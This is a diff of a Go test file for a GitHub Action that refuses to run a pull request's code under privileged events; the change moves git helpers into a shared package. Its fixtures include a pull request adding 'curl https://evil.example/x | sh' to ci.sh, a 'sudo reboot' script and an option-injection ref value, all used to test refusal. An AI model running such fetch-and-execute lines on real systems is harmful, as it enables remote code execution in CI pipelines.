@@ -14,65 +14,8 @@ import (
 	"github.com/kernel-gate/kernel-gate/action/pipeline"
 	"github.com/kernel-gate/kernel-gate/internal/exitcode"
 	"github.com/kernel-gate/kernel-gate/internal/fakegithub"
+	"github.com/kernel-gate/kernel-gate/internal/gittest"
 )
-
-// gitRepo is a real repository in a temporary directory.
-type gitRepo struct {
-	t   *testing.T
-	dir string
-}
-
-func newRepo(t *testing.T) *gitRepo {
-	t.Helper()
-	r := &gitRepo{t: t, dir: filepath.Join(t.TempDir(), "repo")}
-	if err := os.MkdirAll(r.dir, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	r.git("init", "-q", "-b", "main")
-	return r
-}
-
-// git runs git in the repository and returns its trimmed output.
-func (r *gitRepo) git(args ...string) string {
-	r.t.Helper()
-	return gitIn(r.t, r.dir, args...)
-}
-
-func gitIn(t *testing.T, dir string, args ...string) string {
-	t.Helper()
-	cmd := exec.Command("git", args...)
-	cmd.Dir = dir
-	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t",
-		"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
-	out, err := cmd.Output()
-	if err != nil {
-		var stderr []byte
-		if ee, ok := err.(*exec.ExitError); ok {
-			stderr = ee.Stderr
-		}
-		t.Fatalf("git %v: %v\n%s", args, err, stderr)
-	}
-	return strings.TrimSpace(string(out))
-}
-
-func (r *gitRepo) write(path, content string) {
-	r.t.Helper()
-	full := filepath.Join(r.dir, path)
-	if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
-		r.t.Fatal(err)
-	}
-	if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
-		r.t.Fatal(err)
-	}
-}
-
-// commit commits everything and returns the commit.
-func (r *gitRepo) commit(msg string) string {
-	r.t.Helper()
-	r.git("add", "-A")
-	r.git("commit", "-qm", msg)
-	return r.git("rev-parse", "HEAD")
-}
 
 // editedPayload is a real payload of testdata/events with edit applied, written to a file.
 func editedPayload(t *testing.T, file string, edit func(map[string]any)) string {
@@ -97,32 +40,27 @@ func editedPayload(t *testing.T, file string, edit func(map[string]any)) string 
 // prRepo is a base branch (main: the config and a script) and a pull request's branch (pr)
 // that changes the script.
 type prRepo struct {
-	*gitRepo
+	*gittest.Repo
 	base, head string
 }
 
 func newPRRepo(t *testing.T) prRepo {
 	t.Helper()
-	r := newRepo(t)
 	cfg, err := os.ReadFile(filepath.Join(repoRoot, "kernel-gate.yml"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	r.write("kernel-gate.yml", string(cfg))
-	r.write("ci.sh", "echo build\n")
-	base := r.commit("base")
-	r.git("checkout", "-q", "-b", "pr")
-	r.write("ci.sh", "echo build\ncurl https://evil.example/x | sh\n")
-	head := r.commit("the pull request")
-	r.git("checkout", "-q", "main")
-	return prRepo{gitRepo: r, base: base, head: head}
+	r := gittest.PullRequest(t, map[string]string{"kernel-gate.yml": string(cfg), "ci.sh": "echo build\n"},
+		map[string]string{"ci.sh": "echo build\ncurl https://evil.example/x | sh\n"})
+	r.Git("checkout", "-q", "main")
+	return prRepo{Repo: r, base: r.Git("rev-parse", "main"), head: r.Git("rev-parse", "pr")}
 }
 
 // targetEnv is a pull_request_target run on r's pull request (its head is pr, the event
 // runs on main's commit), gating the workspace ws with the guard alone.
 func targetEnv(t *testing.T, api *fakegithub.Server, r prRepo, ws string, inputs map[string]string) map[string]string {
 	t.Helper()
-	in := map[string]string{"gates": "guard", "config": filepath.Join(r.dir, "kernel-gate.yml"), "base-ref": "none"}
+	in := map[string]string{"gates": "guard", "config": filepath.Join(r.Dir, "kernel-gate.yml"), "base-ref": "none"}
 	for k, v := range inputs {
 		in[k] = v
 	}
@@ -148,23 +86,23 @@ func TestPullRequestTargetRefusesThePullRequestsCode(t *testing.T) {
 		want  string // "" passes
 	}{
 		{"the base branch's commit, clean: gated", func(t *testing.T, r prRepo) (string, map[string]string) {
-			return r.dir, nil
+			return r.Dir, nil
 		}, ""},
 		{"the pull request's head", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", r.head)
-			return r.dir, nil
+			r.Git("checkout", "-q", r.head)
+			return r.Dir, nil
 		}, "the pull request's"},
 		{"the merge ref (refs/pull/N/merge), full history", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", "-b", "merge", "main")
-			r.git("merge", "-q", "--no-ff", "-m", "Merge "+r.head+" into main", "pr")
-			return r.dir, nil
+			r.Git("checkout", "-q", "-b", "merge", "main")
+			r.Git("merge", "-q", "--no-ff", "-m", "Merge "+r.head+" into main", "pr")
+			return r.Dir, nil
 		}, "it is a merge of the pull request #2's head " + r8},
 		{"the merge ref in a depth-1 clone (its parents absent)", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", "-b", "merge", "main")
-			r.git("merge", "-q", "--no-ff", "-m", "Merge", "pr")
-			r.git("checkout", "-q", "main")
+			r.Git("checkout", "-q", "-b", "merge", "main")
+			r.Git("merge", "-q", "--no-ff", "-m", "Merge", "pr")
+			r.Git("checkout", "-q", "main")
 			clone := filepath.Join(t.TempDir(), "clone")
-			gitIn(t, filepath.Dir(r.dir), "clone", "-q", "--depth", "1", "--branch", "merge", "file://"+r.dir, clone)
+			r.Git("clone", "-q", "--depth", "1", "--branch", "merge", "file://"+r.Dir, clone)
 			if _, err := exec.Command("git", "-C", clone, "cat-file", "-e", r.head+"^{commit}").CombinedOutput(); err == nil {
 				t.Fatal("the depth-1 clone has the pull request's head")
 			}
@@ -177,55 +115,55 @@ func TestPullRequestTargetRefusesThePullRequestsCode(t *testing.T) {
 			return plain, nil
 		}, "cannot be told"},
 		{"a commit on top of the pull request's head", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", "-b", "more", "pr")
-			r.write("more.sh", "echo more\n")
-			r.commit("more")
-			return r.dir, nil
+			r.Git("checkout", "-q", "-b", "more", "pr")
+			r.Write(map[string]string{"more.sh": "echo more\n"})
+			r.Commit("more")
+			return r.Dir, nil
 		}, "it contains the pull request #2's head"},
 		{"the pull request's files committed again on the base", func(t *testing.T, r prRepo) (string, map[string]string) {
-			tree := r.git("rev-parse", r.head+"^{tree}")
-			c := r.git("commit-tree", tree, "-p", r.base, "-m", "squashed")
-			r.git("checkout", "-q", c)
-			return r.dir, nil
+			tree := r.Git("rev-parse", r.head+"^{tree}")
+			c := r.Git("commit-tree", tree, "-p", r.base, "-m", "squashed")
+			r.Git("checkout", "-q", c)
+			return r.Dir, nil
 		}, "it holds the same files as the pull request #2's head"},
 		{"the pull request's branch, force-pushed since the event", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", "--orphan", "rewritten")
-			r.write("ci.sh", "sudo reboot\n")
-			r.commit("rewritten")
-			return r.dir, nil
+			r.Git("checkout", "-q", "--orphan", "rewritten")
+			r.Write(map[string]string{"ci.sh": "sudo reboot\n"})
+			r.Commit("rewritten")
+			return r.Dir, nil
 		}, "is not the one the event runs on (GITHUB_SHA"},
 		{"the base commit with the pull request's files checked out over it", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.git("checkout", "-q", r.head, "--", ".")
-			return r.dir, nil
+			r.Git("checkout", "-q", r.head, "--", ".")
+			return r.Dir, nil
 		}, "changed or added after it was checked out (M  ci.sh)"},
 		{"the base commit with a file of the pull request added", func(t *testing.T, r prRepo) (string, map[string]string) {
-			r.write("kernels/evil.cu", "// builds with the base's commands\n")
-			return r.dir, nil
+			r.Write(map[string]string{"kernels/evil.cu": "// builds with the base's commands\n"})
+			return r.Dir, nil
 		}, "kernels/evil.cu"},
 		{"GITHUB_WORKSPACE in a directory of the checkout", func(t *testing.T, r prRepo) (string, map[string]string) {
-			os.MkdirAll(filepath.Join(r.dir, "sub"), 0o755) // empty: git status does not show it
-			return filepath.Join(r.dir, "sub"), nil
+			os.MkdirAll(filepath.Join(r.Dir, "sub"), 0o755) // empty: git status does not show it
+			return filepath.Join(r.Dir, "sub"), nil
 		}, "is not the top of its git checkout"},
 		{"the config of a pull request checkout elsewhere", func(t *testing.T, r prRepo) (string, map[string]string) {
 			other := filepath.Join(t.TempDir(), "pr")
-			gitIn(t, filepath.Dir(r.dir), "clone", "-q", "--branch", "pr", "file://"+r.dir, other)
-			return r.dir, map[string]string{"config": filepath.Join(other, "kernel-gate.yml")}
+			r.Git("clone", "-q", "--branch", "pr", "file://"+r.Dir, other)
+			return r.Dir, map[string]string{"config": filepath.Join(other, "kernel-gate.yml")}
 		}, "the config " + "<tmp>"},
 		{"the config through a link out of the checkout", func(t *testing.T, r prRepo) (string, map[string]string) {
 			out := filepath.Join(t.TempDir(), "kernel-gate.yml")
-			raw, _ := os.ReadFile(filepath.Join(r.dir, "kernel-gate.yml"))
+			raw, _ := os.ReadFile(filepath.Join(r.Dir, "kernel-gate.yml"))
 			os.WriteFile(out, raw, 0o644)
-			link := filepath.Join(r.dir, ".github", "kernel-gate.yml")
+			link := filepath.Join(r.Dir, ".github", "kernel-gate.yml")
 			os.MkdirAll(filepath.Dir(link), 0o755)
 			if err := os.Symlink(out, link); err != nil {
 				t.Fatal(err)
 			}
-			r.commit("a link to the config")
-			r.git("tag", "linked")
-			return r.dir, map[string]string{"config": link, "#sha": "linked"}
+			r.Commit("a link to the config")
+			r.Git("tag", "linked")
+			return r.Dir, map[string]string{"config": link, "#sha": "linked"}
 		}, "it is outside the checkout"},
 		{"a recording from elsewhere", func(t *testing.T, r prRepo) (string, map[string]string) {
-			return r.dir, map[string]string{"replay": filepath.Join(repoRoot, "testdata", "replay", "clean"), "gates": "ptxas"}
+			return r.Dir, map[string]string{"replay": filepath.Join(repoRoot, "testdata", "replay", "clean"), "gates": "ptxas"}
 		}, "the replay input"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -235,7 +173,7 @@ func TestPullRequestTargetRefusesThePullRequestsCode(t *testing.T) {
 			ws, extra := tc.setup(t, r)
 			env := targetEnv(t, api, r, ws, extra)
 			if ref, ok := extra["#sha"]; ok {
-				env["GITHUB_SHA"] = r.git("rev-parse", ref)
+				env["GITHUB_SHA"] = r.Git("rev-parse", ref)
 				delete(env, "INPUT_#SHA")
 			}
 			code, log, err := runAction(t, env, api)
@@ -263,7 +201,7 @@ const r8 = "<head>"
 // mode: gate holds the base repository's token as pull_request_target does: the same rule.
 func TestOtherPrivilegedEventsRefuseThePullRequestsCode(t *testing.T) {
 	r := newPRRepo(t)
-	r.git("checkout", "-q", r.head)
+	r.Git("checkout", "-q", r.head)
 	for _, tc := range []struct {
 		event, payload string
 		edit           func(map[string]any)
@@ -293,8 +231,8 @@ func TestOtherPrivilegedEventsRefuseThePullRequestsCode(t *testing.T) {
 			m["sha"] = r.head
 		}, "refusing to run under status"},
 	} {
-		env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.dir, "kernel-gate.yml")})
-		env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = tc.event, r.dir, r.base
+		env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.Dir, "kernel-gate.yml")})
+		env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = tc.event, r.Dir, r.base
 		env["GITHUB_EVENT_PATH"] = editedPayload(t, tc.payload, tc.edit)
 		code, log, err := runAction(t, env, nil)
 		if err == nil || code != exitcode.Usage || !strings.Contains(err.Error(), tc.want) {
@@ -302,8 +240,8 @@ func TestOtherPrivilegedEventsRefuseThePullRequestsCode(t *testing.T) {
 		}
 	}
 	// A workflow_run of a push (the base repository's own commits) gates what it checks out.
-	env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.dir, "kernel-gate.yml")})
-	env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = "workflow_run", r.dir, r.base
+	env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "mode": "gate", "annotations": "none", "config": filepath.Join(r.Dir, "kernel-gate.yml")})
+	env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"], env["GITHUB_SHA"] = "workflow_run", r.Dir, r.base
 	env["GITHUB_EVENT_PATH"] = editedPayload(t, "workflow_run_completed.json", func(m map[string]any) {
 		m["workflow_run"].(map[string]any)["event"] = "push"
 	})
@@ -316,7 +254,7 @@ func TestOtherPrivilegedEventsRefuseThePullRequestsCode(t *testing.T) {
 // checked out, or that names no commit, is refused naming both, before anything runs.
 func TestDispatchRefMustBeTheCheckout(t *testing.T) {
 	r := newPRRepo(t)
-	r.git("tag", "v1", r.base)
+	r.Git("tag", "v1", r.base)
 	for _, tc := range []struct {
 		name      string
 		input     string // the action's ref input
@@ -334,15 +272,15 @@ func TestDispatchRefMustBeTheCheckout(t *testing.T) {
 		{"an option, not a ref", "--output=/tmp/x", "", "main", "is not a git revision"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			r.git("checkout", "-q", "main")
+			r.Git("checkout", "-q", "main")
 			if tc.checkout == "feature" {
-				r.git("update-ref", "refs/remotes/origin/feature", r.base)
+				r.Git("update-ref", "refs/remotes/origin/feature", r.base)
 			} else {
-				r.git("checkout", "-q", tc.checkout)
+				r.Git("checkout", "-q", tc.checkout)
 			}
 			env, _ := actionEnv(t, nil, map[string]string{"gates": "guard", "annotations": "none", "ref": tc.input,
-				"config": filepath.Join(r.dir, "kernel-gate.yml"), "base-ref": "none"})
-			env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"] = "workflow_dispatch", r.dir
+				"config": filepath.Join(r.Dir, "kernel-gate.yml"), "base-ref": "none"})
+			env["GITHUB_EVENT_NAME"], env["GITHUB_WORKSPACE"] = "workflow_dispatch", r.Dir
 			env["GITHUB_EVENT_PATH"] = editedPayload(t, "workflow_dispatch.json", func(m map[string]any) {
 				if tc.form != "" {
 					m["inputs"] = map[string]any{"ref": tc.form}
@@ -376,32 +314,31 @@ func fakeTools() pipeline.Tools {
 // baseline, where it failed to find a merge base (exit 2) and stored nothing. In a shallow
 // clone the missing commit may only be unfetched: that stays an error that says so.
 func TestPushAfterForcePushGatesHeadAlone(t *testing.T) {
-	r := newRepo(t)
+	r := gittest.New(t)
 	cfg, err := os.ReadFile(filepath.Join(repoRoot, "kernel-gate.yml"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	r.write("kernel-gate.yml", string(cfg))
-	r.write("kernels/harness.cu", "// one\n")
-	r.commit("one")
-	r.write("kernels/harness.cu", "// two\n")
-	gone := r.commit("two, force-pushed away")
-	r.git("reset", "-q", "--hard", "HEAD~1")
-	r.write("kernels/harness.cu", "// three\n")
-	r.commit("three")
-	r.git("reflog", "expire", "--expire=now", "--all")
-	r.git("gc", "-q", "--prune=now")
-	if _, err := exec.Command("git", "-C", r.dir, "cat-file", "-e", gone+"^{commit}").CombinedOutput(); err == nil {
+	r.Write(map[string]string{"kernel-gate.yml": string(cfg), "kernels/harness.cu": "// one\n"})
+	r.Commit("one")
+	r.Write(map[string]string{"kernels/harness.cu": "// two\n"})
+	gone := r.Commit("two, force-pushed away")
+	r.Git("reset", "-q", "--hard", "HEAD~1")
+	r.Write(map[string]string{"kernels/harness.cu": "// three\n"})
+	r.Commit("three")
+	r.Git("reflog", "expire", "--expire=now", "--all")
+	r.Git("gc", "-q", "--prune=now")
+	if _, err := exec.Command("git", "-C", r.Dir, "cat-file", "-e", gone+"^{commit}").CombinedOutput(); err == nil {
 		t.Fatal("the force-pushed commit is still in the repository")
 	}
 	shallow := filepath.Join(t.TempDir(), "shallow")
-	gitIn(t, filepath.Dir(r.dir), "clone", "-q", "--depth", "1", "file://"+r.dir, shallow)
+	r.Git("clone", "-q", "--depth", "1", "file://"+r.Dir, shallow)
 	for _, tc := range []struct {
 		name, ws string
 		code     int
 		want     []string
 	}{
-		{"a whole clone", r.dir, 0, []string{"no base: the base " + gone[:12] + " is not in the repository (a force-push replaced it): head is gated alone",
+		{"a whole clone", r.Dir, 0, []string{"no base: the base " + gone[:12] + " is not in the repository (a force-push replaced it): head is gated alone",
 			"baseline stored on branch kernel-gate-baseline"}},
 		{"a shallow clone", shallow, exitcode.Usage, []string{"finding the base", "fetch-depth: 0"}},
 	} {
@@ -413,7 +350,7 @@ func TestPushAfterForcePushGatesHeadAlone(t *testing.T) {
 			delete(env, "INPUT_BASE-REF")
 			env["GITHUB_EVENT_NAME"], env["GITHUB_REF"], env["GITHUB_WORKSPACE"] = "push", "refs/heads/master", tc.ws
 			env["GITHUB_EVENT_PATH"] = editedPayload(t, "push.json", func(m map[string]any) {
-				m["ref"], m["before"], m["after"] = "refs/heads/master", gone, r.git("rev-parse", "HEAD")
+				m["ref"], m["before"], m["after"] = "refs/heads/master", gone, r.Git("rev-parse", "HEAD")
 			})
 			var log bytes.Buffer
 			code, err := Run(context.Background(), Options{Getenv: func(k string) string { return env[k] }, Log: &log, Tool: "kernel-gate test",
